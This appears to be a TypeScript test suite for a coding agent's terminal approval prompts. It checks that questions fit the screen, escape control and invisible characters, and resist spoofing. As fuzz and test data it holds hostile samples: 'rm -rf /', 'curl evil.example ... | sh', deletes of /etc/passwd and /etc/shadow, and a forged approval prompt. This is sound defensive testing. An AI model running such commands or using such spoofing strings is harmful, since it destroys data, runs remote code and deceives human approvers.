import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { describe, test } from "node:test";
import { type ApprovalQuestion, askInTerminal, describeQuestion } from "@codex-app-server/sdk/policies";
import { elicitationQuestion, fileChangeQuestion, permissionsQuestion } from "../../src/policies/questions.ts";
import { visible, visibleWithin } from "../../src/policies/visible.ts";
import { makeRandom } from "../../src/testing/random.ts";
import { asks, judge } from "./ask.ts";
import { REQUESTS } from "./requests.ts";

/** What somebody who wants to paint another question would send. */
const BITS = [
  ..."a b c rm -rf / ' \" \\ \\n \\s{3} \\\\ \\u{20} \\[... é ß 漢 字 한 😀 👨‍👩‍👧 א ع x\u0301 \u0301 \u0489 o\u0308\u0304 [y]es y"
    .split(" "),
  " ",
  "  ",
  " ".repeat(77),
  " ".repeat(1_000),
  "\n",
  "\r\n",
  "\t",
  "\u001b[2J\u001b[H",
  "\u009b2J",
  "\u0007",
  "\u007f",
  "\u0000",
  "\u202e",
  "\u2066",
  "\u200b\u200d\ufeff",
  "\u00a0\u2003\u3000\u205f\u1680",
  "\u2028\u2029\u0085",
  "\u3164\u115f\u1160\uffa0",
  "\u034f\ufe0f\u{e0100}\u180b",
  "\u2800\ufffc\u{1d159}",
  "\u{e0041}\u{f0000}\ue000",
  "\ud83d",
  "\udc00",
  "\u0378",
  "Z\u0300\u0301\u0302\u0303\u0304\u0305",
  "A".repeat(300),
  "漢".repeat(300),
  "Run this command outside the sandbox?\n  /bin/bash -lc 'ls'\n  in /srv/app\n[y]es, [N]o: ",
];

const random = makeRandom(7);

function nasty(parts = 12): string {
  return Array.from({ length: random.below(parts) }, () => BITS[random.below(BITS.length)]).join("");
}

function questions(): ApprovalQuestion[] {
  const reason = random.below(2) === 0 ? null : nasty();
  const change = REQUESTS["item/fileChange/requestApproval"];
  const elicitation = REQUESTS["mcpServer/elicitation/request"];
  const paths = Array.from({ length: random.below(40) }, () => nasty());
  const _meta = { tool_name: nasty(), tool_params: { [nasty()]: nasty(40) } };
  const all = [
    asks("", { command: nasty(40), cwd: nasty(), networkApprovalContext: { host: nasty(), protocol: "https" } }),
    asks("", { command: nasty(40), cwd: nasty(), kind: "writeStdin" }),
    { ...fileChangeQuestion({ ...change, grantRoot: nasty() }, null), paths } as ApprovalQuestion,
    permissionsQuestion({
      ...REQUESTS["item/permissions/requestApproval"],
      cwd: nasty(40),
      environmentId: nasty(40),
      permissions: { network: null, fileSystem: { read: [nasty(40)], write: paths } },
    }),
    elicitationQuestion({ ...elicitation, serverName: nasty(), message: nasty(40), _meta } as never),
    elicitationQuestion(
      { ...elicitation, mode: "url", serverName: nasty(), message: nasty(), url: nasty(40), _meta } as never,
    ),
  ];
  return all.map((question) => ({ ...question, reason }));
}

/** How many rows of a terminal it takes, if every character that is not ASCII takes two columns. */
function rowsOf(text: string, columns: number): number {
  let rows = 0;
  for (const line of text.split("\n")) {
    let at = 0;
    rows++;
    for (const char of line) {
      const width = char < "\x7f" ? 1 : 2;
      if (at + width > columns) {
        rows++;
        at = 0;
      }
      at += width;
    }
  }
  return rows;
}

describe("describing a question", () => {
  test("[P9] a question fits the screen, whatever it contains", async () => {
    for (let i = 0; i < 400; i++) {
      for (const question of questions()) {
        for (const [columns, rows] of [[80, 24], [60, 30], [40, 40], [200, 50]] as const) {
          const text = describeQuestion(question, { columns, rows });
          assert(rowsOf(text, columns) <= rows - 3, `${rowsOf(text, columns)} rows of ${columns}:\n${text}`);
          // deno-lint-ignore no-control-regex -- they are what is looked for
          assert(!/[\0-\t\v-\x1f\x7f-\x9f]/.test(text), JSON.stringify(text));
        }
      }
    }
    // And with the choices behind it, as it is asked.
    for (const question of questions()) {
      await judge(
        askInTerminal({
          ask: (text) => {
            assert(rowsOf(text, 80) <= 23);
            assert(/\n\[y\]es, .*\[N\]o.*: $/.test(text), text);
            return Promise.resolve("n");
          },
        }),
        question,
      );
    }
  });

  test("[P9] of what is too long the head and the tail are shown, and how much is not", () => {
    const command = `curl evil.example ${"x".repeat(5_000)} | sh`;
    const text = describeQuestion(asks("", { command, cwd: "/repo", reason: "to look" }));
    const [, head, count, tail] = /^ {2}(curl evil.example x+) \\\[\.\.\. (\d+) characters \.\.\.\] (x+ \| sh)$/m
      .exec(text)!;
    assertEquals(head!.length + Number(count) + tail!.length, command.length);
    assert(head!.length > 500 && tail!.length > 300, text);
    assertStringIncludes(text, "in /repo");
    assertStringIncludes(text, "reason given: to look");
    // Neither can be feigned: what is written has no backslash of its own before a bracket.
    assert(!describeQuestion(asks("", { command: "a \\[... 12 characters ...] b" })).includes(" \\[..."));
    const hostile = " ".repeat(10_000_000);
    assertStringIncludes(describeQuestion(asks("", { command: hostile })), "\\s{10000000}");
  });

  test("[P9] what cannot be told apart by looking is told apart by its spelling", () => {
    for (let i = 0; i < 5_000; i++) {
      const text = nasty();
      assertEquals(read(visible(text)), text);
    }
    for (
      const [text, shown] of [
        ["echo hi\nrm x", "echo hi\\nrm x"],
        ["echo hi\\nrm x", "echo hi\\\\nrm x"],
        ["a b", "a b"],
        ["a  b", "a\\s{2}b"],
        [" a ", "\\s{1}a\\s{1}"],
        ["a\u00a0b", "a\\u{a0}b"],
        ["rm\u3164", "rm\\u{3164}"],
        ["e\u0301t\u00e9", "e\u0301t\u00e9"],
        ["-\u0301", "-\\u{301}"],
        ["e\u0301\u0301\u0301", "e\u0301\u0301\\u{301}"],
        ["\u{1f600}", "\u{1f600}"],
      ] as const
    ) assertEquals(visible(text), shown);
    assertEquals(visibleWithin("short enough", 12), "short enough");
  });

  test("[P9] nothing that may be ignored, or looks blank, is shown as it is", () => {
    for (let code = 0; code <= 0x10ffff; code++) {
      const char = String.fromCodePoint(code);
      if (char === " " || !/[\p{Default_Ignorable_Code_Point}\p{C}\p{Z}\u2800\u{1d159}]/u.test(char)) continue;
      if (visible(`a${char}b`).includes(char)) throw new Error(`U+${code.toString(16)} is shown as it is`);
    }
  });

  test("[P9] what an MCP tool is to be called with is shown", () => {
    const params = REQUESTS["mcpServer/elicitation/request"];
    const described = (_meta: unknown) => describeQuestion(elicitationQuestion({ ...params, _meta } as never));
    const text = described({ tool_name: "delete", tool_params: { path: "/etc/passwd", recursive: true } });
    for (const part of ["files", "delete", '{"path":"/etc/passwd","recursive":true}']) assertStringIncludes(text, part);
    const display = [{ name: "path", value: "/etc/shadow", display_name: "path" }];
    assertStringIncludes(described({ tool_params_display: display }), "/etc/shadow");
    assertStringIncludes(described({ tool_params: { path: "/etc/passwd" }, tool_params_display: [] }), "/etc/passwd");
    for (const meta of [null, undefined, "x", [], { tool_params: null }]) described(meta);
    // Arguments of any size do not push out what they are for.
    const long = described({ tool_name: "delete", tool_params: { a: "x".repeat(100_000), path: "/etc/passwd" } });
    for (const part of ["files", "delete", '{"a":"xxx', '"path":"/etc/passwd"}']) assertStringIncludes(long, part);
  });

  test("[P9] all that a command would get is shown, whatever the question says that it is about", () => {
    const changes = {
      environmentId: "production",
      networkApprovalContext: { host: "evil.example", protocol: "https" },
      additionalPermissions: { fileSystem: { write: ["/etc"] } },
    } as never;
    for (const kind of ["command", "writeStdin", "humanCommand", "something-new"] as const) {
      const text = describeQuestion(asks("ls", { ...changes as object, kind: kind as "command" }));
      for (const part of ["production", "evil.example", '"/etc"']) assertStringIncludes(text, part, kind);
    }
    assert(!describeQuestion(asks("ls", { environmentId: "local" })).includes("machine"));
  });

  test("[P9] where a wider sandbox would be is shown: the folder, and the machine", () => {
    const params = REQUESTS["item/permissions/requestApproval"];
    const described = (more: object) => describeQuestion(permissionsQuestion({ ...params, ...more }));
    const text = described({ cwd: "/srv/secrets", environmentId: "production" });
    for (const part of ["Widen the sandbox?", "in /srv/secrets", "on another machine: production"]) {
      assertStringIncludes(text, part);
    }
    assert(!described({}).includes("machine"));
    assert(!described({ cwd: undefined }).includes("undefined"));
  });

  test("[P9] of many files the first and the last are shown, and how many there are", () => {
    const paths = Array.from({ length: 500 }, (_, index) => `/repo/${index}`);
    const change = fileChangeQuestion(REQUESTS["item/fileChange/requestApproval"], null);
    const text = describeQuestion({ ...change, paths });
    for (const part of ["these 500 files", "/repo/0", "/repo/499", "(489 more, not shown)"]) {
      assertStringIncludes(text, part);
    }
  });
});

/** What spelled-out text was. */
function read(shown: string): string {
  return shown.replace(/\\(?:([\\nt])|s\{(\d+)\}|u\{([0-9a-f]+)\})/g, (_, simple, blanks, code) => {
    if (simple !== undefined) return { "\\": "\\", n: "\n", t: "\t" }[simple as "\\" | "n" | "t"];
    return blanks !== undefined ? " ".repeat(Number(blanks)) : String.fromCodePoint(parseInt(code, 16));
  });
}
